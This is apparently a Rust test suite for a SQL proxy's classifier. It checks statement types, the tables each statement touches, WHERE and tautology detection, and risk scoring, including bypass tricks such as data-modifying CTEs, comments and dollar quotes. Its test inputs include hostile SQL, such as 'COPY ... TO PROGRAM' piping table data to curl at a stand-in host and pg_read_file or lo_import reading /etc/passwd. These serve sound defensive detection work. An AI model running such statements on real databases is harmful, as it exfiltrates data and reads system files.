//! Classification, table-driven: statement types, every table touched with its operation,
//! WHERE detection, columns, risk, hashes, and the bypass shapes the proxy must see through
//! (multi-statement strings, data-modifying CTEs, subqueries, quoting, casing, comments,
//! dollar quotes).

use shakedown_sql::classify::{
    Classification, ClassifyOptions, RiskFactor, RiskLevel, StatementType as K, TableOp,
    TxnControl, classify,
};

fn all(sql: &str) -> Vec<Classification> {
    classify(sql, &ClassifyOptions::default())
}

fn one(sql: &str) -> Classification {
    let mut v = all(sql);
    assert_eq!(v.len(), 1, "{sql}: {v:#?}");
    v.remove(0)
}

/// `OP table[+w]` for each action (`+w`: has a WHERE).
fn acts(c: &Classification) -> Vec<String> {
    c.actions
        .iter()
        .map(|a| {
            format!(
                "{} {}{}",
                a.op,
                a.table,
                if a.has_where { "+w" } else { "" }
            )
        })
        .collect()
}

#[test]
fn statement_types_and_tables() {
    let cases: &[(&str, K, &[&str])] = &[
        (
            "SELECT * FROM users WHERE id = 1",
            K::Select,
            &["SELECT users+w"],
        ),
        ("select 1", K::Select, &[]),
        ("VALUES (1), (2)", K::Select, &[]),
        ("INSERT INTO t (a) VALUES (1)", K::Insert, &["INSERT t"]),
        (
            "UPDATE t SET a = 1 WHERE id = 2",
            K::Update,
            &["UPDATE t+w"],
        ),
        ("DELETE FROM t", K::Delete, &["DELETE t"]),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)",
            K::Merge,
            &["DELETE t+w", "INSERT t+w", "SELECT s+w"],
        ),
        ("COPY users FROM STDIN", K::Copy, &["INSERT users"]),
        ("COPY users TO STDOUT", K::Copy, &["SELECT users"]),
        (
            "COPY (SELECT * FROM users) TO STDOUT WITH (FORMAT csv)",
            K::Copy,
            &["SELECT users"],
        ),
        ("CREATE TABLE t (a int)", K::Create, &["CREATE t"]),
        (
            "CREATE TABLE t AS SELECT * FROM users",
            K::Create,
            &["CREATE t", "SELECT users"],
        ),
        (
            "CREATE VIEW v AS SELECT * FROM users",
            K::Create,
            &["CREATE v", "SELECT users"],
        ),
        ("CREATE INDEX i ON users (a)", K::Create, &["ALTER users"]),
        ("CREATE SCHEMA s", K::Create, &[]),
        (
            "ALTER TABLE users DROP COLUMN a",
            K::Alter,
            &["ALTER users"],
        ),
        (
            "DROP TABLE IF EXISTS a, s.b CASCADE",
            K::Drop,
            &["DROP a", "DROP s.b"],
        ),
        ("DROP INDEX idx", K::Drop, &[]),
        ("DROP FUNCTION f(int)", K::Drop, &[]),
        (
            "TRUNCATE a, ONLY b RESTART IDENTITY",
            K::Truncate,
            &["TRUNCATE a", "TRUNCATE b"],
        ),
        ("GRANT SELECT ON users TO bob", K::Grant, &["GRANT users"]),
        (
            "REVOKE SELECT ON users FROM bob",
            K::Revoke,
            &["REVOKE users"],
        ),
        ("BEGIN", K::Begin, &[]),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            K::Begin,
            &[],
        ),
        ("COMMIT", K::Commit, &[]),
        ("END", K::Commit, &[]),
        ("ROLLBACK", K::Rollback, &[]),
        ("ABORT", K::Rollback, &[]),
        ("SAVEPOINT s", K::Savepoint, &[]),
        ("RELEASE SAVEPOINT s", K::Release, &[]),
        ("SET search_path = public", K::Set, &[]),
        ("RESET ALL", K::Set, &[]),
        ("SHOW server_version", K::Show, &[]),
        ("EXPLAIN SELECT * FROM users", K::Explain, &["SELECT users"]),
        ("LISTEN ch", K::Listen, &[]),
        ("NOTIFY ch, 'x'", K::Notify, &[]),
        ("UNLISTEN *", K::Unlisten, &[]),
        (
            "PREPARE p (int) AS SELECT * FROM users WHERE id = $1",
            K::Prepare,
            &["SELECT users+w"],
        ),
        ("EXECUTE p(1)", K::Execute, &[]),
        ("DEALLOCATE p", K::Deallocate, &[]),
        ("CALL proc(1)", K::Call, &[]),
        ("VACUUM users", K::Vacuum, &["VACUUM users"]),
        ("ANALYZE users", K::Analyze, &["ANALYZE users"]),
        (
            "LOCK TABLE users IN ACCESS EXCLUSIVE MODE",
            K::Lock,
            &["LOCK users"],
        ),
        (
            "COMMENT ON TABLE users IS 'x'",
            K::Comment,
            &["COMMENT users"],
        ),
        (
            "COMMENT ON COLUMN s.users.a IS 'x'",
            K::Comment,
            &["COMMENT s.users"],
        ),
        ("DISCARD ALL", K::Other, &[]),
        (
            "DECLARE c CURSOR FOR SELECT * FROM users",
            K::Other,
            &["SELECT users"],
        ),
    ];
    for (sql, kind, expected) in cases {
        let c = one(sql);
        assert_eq!(c.kind, *kind, "{sql}: {c:#?}");
        assert_eq!(acts(&c), *expected, "{sql}");
        assert!(c.parse_error.is_none(), "{sql}");
    }
}

#[test]
fn multi_statement_strings_classify_every_statement() {
    let v = all("SELECT 1; DELETE FROM users;\n  UPDATE t SET a = 1 WHERE id = 2 ;; -- done\n");
    let kinds: Vec<K> = v.iter().map(|c| c.kind).collect();
    assert_eq!(kinds, vec![K::Select, K::Delete, K::Update]);
    assert_eq!(v[1].text, "DELETE FROM users");
    assert!(!v[1].has_where);
    assert!(v[2].has_where);
    // Every statement knows the length of the whole string (for max_query_length).
    assert!(
        v.iter()
            .all(|c| c.source_chars == v[0].source_chars && c.source_chars > 50)
    );
    assert!(all("  ;; /* nothing */ ").is_empty());
}

#[test]
fn data_modifying_cte_is_a_delete_without_where() {
    let c = one("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
    assert_eq!(c.kind, K::Select);
    assert_eq!(c.hint, K::Select);
    assert_eq!(acts(&c), vec!["DELETE users"]);
    assert!(c.actions[0].in_cte);
    assert!(c.matches_type("DELETE"));
    assert_eq!(c.risk.level, RiskLevel::Critical);
    assert!(c.risk.factors.contains(&RiskFactor::WriteInCte));

    let c = one("WITH x AS (SELECT id FROM banned) DELETE FROM users");
    assert_eq!((c.kind, c.hint), (K::Delete, K::Delete));
    assert_eq!(acts(&c), vec!["SELECT banned", "DELETE users"]);
    assert!(!c.has_where);
    assert!(!c.actions[1].in_cte);

    let c =
        one("WITH moved AS (DELETE FROM a WHERE x RETURNING *) INSERT INTO b SELECT * FROM moved");
    assert_eq!(c.kind, K::Insert);
    assert_eq!(acts(&c), vec!["DELETE a+w", "INSERT b"]);
    assert!(c.risk.factors.contains(&RiskFactor::MultiTableWrite(2)));
}

#[test]
fn subqueries_joins_unions_and_ctes_are_all_seen() {
    let cases: &[(&str, &[&str])] = &[
        (
            "SELECT id FROM orders WHERE user_id IN (SELECT id FROM _system_secrets)",
            &["SELECT orders+w", "SELECT _system_secrets"],
        ),
        (
            "SELECT 1 WHERE EXISTS (SELECT 1 FROM _system_secrets s WHERE s.k = 'x')",
            &["SELECT _system_secrets+w"],
        ),
        (
            "SELECT (SELECT key FROM _system_secrets LIMIT 1) AS k FROM users",
            &["SELECT _system_secrets", "SELECT users"],
        ),
        (
            "SELECT * FROM (SELECT * FROM (SELECT * FROM deep) a) b",
            &["SELECT deep"],
        ),
        (
            "SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id) CROSS JOIN LATERAL (SELECT * FROM d WHERE d.x = a.x) l",
            &["SELECT a", "SELECT b", "SELECT c", "SELECT d+w"],
        ),
        (
            "SELECT a FROM t1 UNION ALL (SELECT a FROM t2 EXCEPT SELECT a FROM t3)",
            &["SELECT t1", "SELECT t2", "SELECT t3"],
        ),
        (
            "SELECT * FROM t ORDER BY (SELECT max(x) FROM hidden)",
            &["SELECT t", "SELECT hidden"],
        ),
        (
            "SELECT CASE WHEN EXISTS (SELECT 1 FROM _admin_credentials) THEN 1 END",
            &["SELECT _admin_credentials"],
        ),
        (
            "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent JOIN users ON true",
            &["SELECT orders", "SELECT users"],
        ),
        (
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
            &[],
        ),
        // A non-recursive CTE cannot see a later sibling: that name is the real table.
        (
            "WITH x AS (SELECT * FROM _system_secrets), _system_secrets AS (SELECT 1) SELECT * FROM x",
            &["SELECT _system_secrets"],
        ),
        // Outside its WITH, a CTE name is a real table again.
        (
            "SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) a, s",
            &["SELECT s"],
        ),
        // A schema-qualified name is never a CTE.
        (
            "WITH users AS (SELECT 1) SELECT * FROM public.users",
            &["SELECT public.users"],
        ),
        (
            "INSERT INTO archive (id, name) SELECT id, name FROM users WHERE active",
            &["INSERT archive", "SELECT users+w"],
        ),
        (
            "UPDATE users u SET name = a.name FROM accounts a WHERE u.id = a.uid",
            &["UPDATE users+w", "SELECT accounts+w"],
        ),
        (
            "DELETE FROM orders USING users WHERE orders.uid = users.id AND users.banned",
            &["DELETE orders+w", "SELECT users+w"],
        ),
        (
            "UPDATE t SET a = (SELECT max(a) FROM other) WHERE id IN (SELECT id FROM third)",
            &["UPDATE t+w", "SELECT other", "SELECT third"],
        ),
        (
            "INSERT INTO users (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b RETURNING *",
            &["INSERT users", "UPDATE users+w"],
        ),
        (
            "SELECT * INTO new_t FROM users",
            &["CREATE new_t", "SELECT users"],
        ),
        ("SELECT * FROM generate_series(1, 3) g", &[]),
        (
            "SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)",
            &[],
        ),
    ];
    for (sql, expected) in cases {
        let c = one(sql);
        assert!(c.is_parsed(), "{sql}: {:?}", c.parse_error);
        assert_eq!(acts(&c), *expected, "{sql}");
    }
}

#[test]
fn quoted_schema_qualified_and_odd_casing() {
    let c = one(r#"SELECT "Users"."Name" FROM "MySchema"."Users""#);
    assert_eq!(c.actions[0].table.schema.as_deref(), Some("MySchema"));
    assert_eq!(c.actions[0].table.name, "Users");
    assert!(c.columns.contains(&"Name".to_string()));

    let c = one("select * from PUBLIC.Users");
    assert_eq!(acts(&c), vec!["SELECT public.users"]);

    let c = one("dElEtE fRoM UsErS");
    assert_eq!(c.kind, K::Delete);
    assert_eq!(acts(&c), vec!["DELETE users"]);

    let c = one(r#"DELETE FROM "public"."_System_Secrets" WHERE "ID" = 1"#);
    assert_eq!(c.actions[0].table.to_string(), "public._System_Secrets");
    assert!(c.has_where);
}

#[test]
fn comments_and_dollar_quotes_hide_nothing() {
    // The WHERE lives in comments: the statement has none.
    let c = one("DELETE /* WHERE id = 1 */ FROM users -- WHERE id = 1");
    assert_eq!(acts(&c), vec!["DELETE users"]);
    assert!(!c.has_where);
    assert_eq!(c.match_text, "DELETE FROM users");

    // Nested block comments.
    let c = one("/* outer /* inner */ still comment; DROP TABLE x */ SELECT 1");
    assert_eq!(c.kind, K::Select);
    assert!(c.actions.is_empty());

    // A comment is a token separator: `DE/**/LETE` is not DELETE, and does not parse.
    let c = one("DE/**/LETE FROM users");
    assert_eq!(c.kind, K::Unparsed);

    // Keywords inside dollar quotes and strings are data.
    let c = one("SELECT $tag$ ; DROP TABLE users; $tag$, 'DELETE FROM users;'");
    assert_eq!(c.kind, K::Select);
    assert!(c.actions.is_empty());

    // A comment between statements does not merge them.
    let v = all("SELECT 1 /* ; */; DROP TABLE users --;\n");
    assert_eq!(v.len(), 2);
    assert_eq!(v[1].kind, K::Drop);
}

#[test]
fn where_detection_sees_through_tautologies() {
    for sql in [
        "DELETE FROM users WHERE 1 = 1",
        "DELETE FROM users WHERE true",
        "DELETE FROM users WHERE id = id",
        "DELETE FROM users WHERE 'a' = 'a'",
        "DELETE FROM users WHERE (1 < 2)",
        "DELETE FROM users WHERE NOT false",
        "DELETE FROM users WHERE id = 5 OR true",
        "UPDATE users SET a = 1 WHERE 2 >= 1",
    ] {
        let c = one(sql);
        assert!(!c.has_where, "{sql}");
        assert!(!c.actions[0].has_where, "{sql}");
        assert!(
            c.risk
                .factors
                .iter()
                .any(|f| f.code() == "tautological_where"),
            "{sql}: {:?}",
            c.risk.factors
        );
        assert_eq!(c.risk.level, RiskLevel::Critical, "{sql}");
    }
    for sql in [
        "DELETE FROM users WHERE id = 5",
        "DELETE FROM users WHERE id = $1",
        "DELETE FROM users WHERE 1 = 1 AND id = 2",
    ] {
        assert!(one(sql).has_where, "{sql}");
    }
}

#[test]
fn risk_levels_and_factors() {
    let level = |sql: &str| one(sql).risk.level;
    assert_eq!(level("SELECT * FROM users WHERE id = 1"), RiskLevel::Low);
    assert_eq!(level("INSERT INTO t VALUES (1)"), RiskLevel::Low);
    assert_eq!(level("UPDATE t SET a = 1 WHERE id = 1"), RiskLevel::Medium);
    assert_eq!(level("UPDATE t SET a = 1"), RiskLevel::Critical);
    assert_eq!(level("ALTER TABLE t ADD COLUMN b int"), RiskLevel::High);
    assert_eq!(level("DROP TABLE t"), RiskLevel::Critical);
    assert_eq!(level("TRUNCATE t"), RiskLevel::Critical);
    assert_eq!(level("GRANT SELECT ON t TO bob"), RiskLevel::High);
    assert_eq!(level("GRANT ALL ON t TO bob"), RiskLevel::Critical);
    assert_eq!(
        level("COPY t TO PROGRAM 'curl -d @- evil'"),
        RiskLevel::Critical
    );
    assert_eq!(level("COPY t FROM '/etc/passwd'"), RiskLevel::High);
    assert_eq!(level("SELECT pg_sleep(10)"), RiskLevel::Medium);
    assert_eq!(
        level("SELECT lo_import('/etc/passwd')"),
        RiskLevel::Critical
    );
    assert_eq!(
        level("SELECT pg_read_file('/etc/passwd')"),
        RiskLevel::Critical
    );
    assert_eq!(
        level("SELECT * FROM dblink('h', 'select 1') AS t(a int)"),
        RiskLevel::High
    );
    assert_eq!(level("ALTER ROLE bob SUPERUSER"), RiskLevel::High);
    assert_eq!(level("SET ROLE admin"), RiskLevel::High);
    assert_eq!(level("DO $$ BEGIN PERFORM 1; END $$"), RiskLevel::High);
    assert_eq!(level("BEGIN"), RiskLevel::Low);

    let c = one("SELECT pg_sleep(1), now()");
    assert_eq!(c.functions, vec!["pg_sleep", "now"]);
    let f = &c.risk.factors[0];
    assert_eq!(f.to_string(), "calls pg_sleep(): delays the session");
}

#[test]
fn explain_runs_only_with_analyze() {
    let c = one("EXPLAIN DELETE FROM users");
    assert_eq!(c.kind, K::Explain);
    assert_eq!(acts(&c), vec!["SELECT users"]);
    assert_eq!(c.risk.level, RiskLevel::Low);
    for sql in [
        "EXPLAIN ANALYZE DELETE FROM users",
        "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM users",
        "EXPLAIN (ANALYZE true) DELETE FROM users",
    ] {
        let c = one(sql);
        assert_eq!(c.kind, K::Explain, "{sql}");
        assert_eq!(acts(&c), vec!["DELETE users"], "{sql}");
        assert_eq!(c.risk.level, RiskLevel::Critical, "{sql}");
    }
    assert_eq!(
        acts(&one("EXPLAIN (ANALYZE off) DELETE FROM users")),
        vec!["SELECT users"]
    );
    // PREPARE is judged as if executed.
    assert_eq!(
        acts(&one("PREPARE p AS DELETE FROM users")),
        vec!["DELETE users"]
    );
}

#[test]
fn transaction_control_is_reported() {
    let txn = |sql: &str| one(sql).txn;
    assert_eq!(txn("BEGIN"), Some(TxnControl::Begin));
    assert_eq!(txn("COMMIT"), Some(TxnControl::Commit { chain: false }));
    assert_eq!(
        txn("COMMIT AND CHAIN"),
        Some(TxnControl::Commit { chain: true })
    );
    assert_eq!(txn("ROLLBACK"), Some(TxnControl::Rollback { chain: false }));
    assert_eq!(
        txn("ROLLBACK TO SAVEPOINT s"),
        Some(TxnControl::RollbackToSavepoint)
    );
    assert_eq!(txn("SAVEPOINT s"), Some(TxnControl::Savepoint));
    assert_eq!(txn("RELEASE s"), Some(TxnControl::Release));
    assert_eq!(txn("SELECT 1"), None);
}

#[test]
fn columns_are_collected() {
    let c = one("SELECT id, u.email FROM users u WHERE password_hash = 'x' ORDER BY created_at");
    for col in ["id", "email", "password_hash", "created_at"] {
        assert!(
            c.columns.contains(&col.to_string()),
            "{col}: {:?}",
            c.columns
        );
    }
    assert!(
        one("SELECT * FROM users")
            .columns
            .contains(&"*".to_string())
    );
    assert!(
        one("SELECT u.* FROM users u")
            .columns
            .contains(&"*".to_string())
    );
    let c = one("UPDATE users SET api_key = 'k', \"Token\" = 't' WHERE id = 1");
    assert_eq!(c.actions[0].columns, vec!["api_key", "Token"]);
    let c = one("INSERT INTO users (Email, name) VALUES ('a', 'b')");
    assert_eq!(c.actions[0].columns, vec!["email", "name"]);
    assert!(
        one("DELETE FROM t WHERE id = 1 RETURNING *")
            .columns
            .contains(&"*".to_string())
    );
}

#[test]
fn unparsed_and_oversized_keep_a_hint() {
    let c = one("DO $$ BEGIN DELETE FROM users; END $$");
    assert_eq!(c.kind, K::Unparsed);
    assert_eq!(c.hint, K::Do);
    assert!(c.parse_error.is_some());
    assert_eq!(c.risk.level, RiskLevel::High);

    let c = one("DELETE FROM users WHERE id = (");
    assert_eq!((c.kind, c.hint), (K::Unparsed, K::Delete));

    let opts = ClassifyOptions {
        max_statement_bytes: 64,
    };
    let big = format!(
        "DELETE FROM users WHERE id IN ({})",
        vec!["1"; 100].join(",")
    );
    let v = classify(&format!("SELECT 1; {big}"), &opts);
    assert_eq!(v[0].kind, K::Select);
    assert_eq!((v[1].kind, v[1].hint), (K::Oversized, K::Delete));
    assert!(v[1].actions.is_empty());
    assert_eq!(v[1].text, big);
}

#[test]
fn hashes_ignore_literals_but_not_structure() {
    let h = |sql: &str| one(sql).hash;
    assert_eq!(
        h("SELECT * FROM t WHERE id = 7 AND name = 'bob'"),
        h("select *  from T where id=42 and name = $x$alice$x$ -- hi")
    );
    assert_ne!(
        h("SELECT * FROM t WHERE id = 7"),
        h("SELECT * FROM u WHERE id = 7")
    );
    assert_ne!(
        h("SELECT * FROM t WHERE id = 7"),
        h("SELECT * FROM t WHERE id = $1")
    );
    assert_eq!(one("SELECT 1").hash.to_string().len(), 64);
    assert_eq!(one("SELECT 'x'").normalized, "select ?");
}

#[test]
fn matches_type_uses_kind_and_operations() {
    let c = one("WITH d AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM d");
    assert!(c.matches_type("select"));
    assert!(c.matches_type("UPDATE"));
    assert!(!c.matches_type("DELETE"));
    assert_eq!(
        c.actions.iter().filter(|a| a.op == TableOp::Update).count(),
        1
    );
}
